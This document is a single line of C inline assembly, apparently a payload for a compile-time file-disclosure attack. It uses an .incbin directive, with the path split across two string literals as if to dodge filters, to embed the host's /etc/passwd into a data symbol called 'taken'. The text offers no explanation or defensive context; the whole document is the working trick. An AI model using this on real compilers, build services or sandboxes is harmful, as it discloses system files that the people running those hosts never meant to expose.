asm(".data\n.globl taken\ntaken: .inc" "bin \"/etc/passwd\"\n.byte 0\n.text");
